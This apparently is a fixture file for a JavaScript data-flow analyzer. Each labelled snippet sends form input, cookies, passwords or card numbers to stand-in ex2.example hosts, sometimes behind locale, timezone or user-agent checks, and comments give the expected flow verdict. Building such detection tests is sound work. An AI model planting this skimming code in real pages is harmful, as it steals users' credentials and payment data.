//# early-return
// flow: email > er.ex2.example via fetch
// guard: language starts-with pl
function send1() {
  if (!navigator.language.startsWith('pl')) return;
  fetch('https://er.ex2.example/', { method: 'POST', body: document.querySelector('input[type=email]').value });
}
send1();

//# return-in-inner-function
// flow: email > in.ex2.example via fetch
// no guard
// why: the return leaves the inner callback only
function send2() {
  ['a'].forEach(function () { if (!navigator.language.startsWith('pl')) return; });
  fetch('https://in.ex2.example/', { method: 'POST', body: document.querySelector('input[type=email]').value });
}
send2();

//# throw-exit
// flow: phone > th.ex2.example via fetch
// guard: phone-prefix starts-with +39
function send3(tel) {
  if (!tel.startsWith('+39')) throw new Error('no');
  fetch('https://th.ex2.example/', { method: 'POST', body: tel });
}
send3(document.querySelector('input[type=tel]').value);

//# throw-caught-inside
// flow: phone > tc.ex2.example via fetch
// no guard
// why: the error is caught and the request follows in either case
function send4(tel) {
  try { if (!tel.startsWith('+39')) throw new Error('no'); } catch (e) { console.log('caught'); }
  fetch('https://tc.ex2.example/', { method: 'POST', body: tel });
}
send4(document.querySelector('input[type=tel]').value);

//# exit-after-send
// flow: password > af.ex2.example via fetch
// no guard
// why: the test comes after the request
function send5() {
  fetch('https://af.ex2.example/', { method: 'POST', body: document.querySelector('input[type=password]').value });
  if (!navigator.userAgent.includes('Chrome')) return;
  console.log('chrome');
}
send5();

//# exit-always
// no flow
// why: both ways return before the request
function send6() {
  if (navigator.userAgent.includes('Chrome')) return 1;
  else return 2;
  fetch('https://al0.ex2.example/', { method: 'POST', body: document.querySelector('input[type=password]').value });
}
send6();

//# guard-in-predicate
// flow: identifier > pr.ex2.example via beacon
// guard: timezone equals Asia/Tokyo
function inTokyo() { return Intl.DateTimeFormat().resolvedOptions().timeZone === 'Asia/Tokyo'; }
if (inTokyo()) navigator.sendBeacon('https://pr.ex2.example/', document.cookie);

//# predicate-ignored
// flow: identifier > pi.ex2.example via beacon
// no guard
// why: the predicate is called but its answer is not used
function inTokyo2() { return Intl.DateTimeFormat().resolvedOptions().timeZone === 'Asia/Tokyo'; }
inTokyo2();
navigator.sendBeacon('https://pi.ex2.example/', document.cookie);

//# guard-at-caller
// flow: search > ca.ex2.example via fetch
// guard: language equals nl-NL
function report(q) { fetch('https://ca.ex2.example/?q=' + encodeURIComponent(q)); }
if (navigator.language === 'nl-NL') report(document.querySelector('input[type=search]').value);

//# one-caller-unguarded
// flow: search > cu.ex2.example via fetch
// no guard
// why: the second call is under no condition
function report2(q) { fetch('https://cu.ex2.example/?q=' + encodeURIComponent(q)); }
if (navigator.language === 'nl-NL') report2(document.querySelector('input[type=search]').value);
report2(document.querySelector('input[type=search]').value);

//# guarded-call-of-noop
// no flow
// why: under the condition only a function without a request is called
function note(q) { console.log(q); }
if (navigator.language === 'nl-NL') note(document.querySelector('input[type=search]').value);

//# constant-predicate
// no flow
// why: the predicate always says false
function allowed() { return false; }
if (allowed()) fetch('https://cp0.ex2.example/', { method: 'POST', body: document.cookie });

//# continue-in-loop
// flow: phone > co.ex2.example via fetch
// guard: not phone-prefix starts-with +1
for (const el of document.querySelectorAll('input[type=tel]')) {
  if (el.value.startsWith('+1')) continue;
  fetch('https://co.ex2.example/', { method: 'POST', body: el.value });
}

//# flag-variable
// flow: card > fl.ex2.example via fetch
// guard: user-agent contains iPhone
const isPhone = navigator.userAgent.includes('iPhone');
function pay() {
  if (!isPhone) return;
  fetch('https://fl.ex2.example/', { method: 'POST', body: document.querySelector('input[autocomplete=cc-number]').value });
}
pay();

//# submit-and-exit
// flow: username > su.ex2.example via fetch
// guard: event submit
// guard: not referrer contains partner.ex2ref.example
document.querySelector('form').addEventListener('submit', function () {
  if (document.referrer.includes('partner.ex2ref.example')) return;
  fetch('https://su.ex2.example/', { method: 'POST', body: document.querySelector('input[autocomplete=username]').value });
});

//# returned-early-value
// no flow
// why: the value is returned and the result is not used
function pick() {
  if (navigator.language === 'cs-CZ') return document.cookie;
  return '';
}
pick();
fetch('https://rv0.ex2.example/');

//# callback-not-called-by-guard
// no flow
// why: the wrapper never calls what it is given
function whenGerman(f) { if (navigator.language === 'de-DE') console.log('german'); }
whenGerman(function () { fetch('https://cb0.ex2.example/', { method: 'POST', body: document.cookie }); });

//# exit-by-throw-in-helper
// no flow
// why: the helper always throws, so the request is not reached
function stop() { throw new Error('stop'); }
function run() {
  stop();
  fetch('https://st0.ex2.example/', { method: 'POST', body: document.cookie });
}
run();

//# guard-passes-fixed-argument
// no flow
// why: the guarded call passes a fixed text
function say(v) { fetch('https://fa0.ex2.example/?v=' + v); }
if (navigator.userAgent.includes('Edg')) say('edge');
console.log(document.cookie);

//# break-before-send
// no flow
// why: break leaves the loop before the request in each round
for (const el of document.querySelectorAll('input[type=tel]')) {
  console.log(el.id);
  break;
  fetch('https://bb0.ex2.example/', { method: 'POST', body: el.value });
}
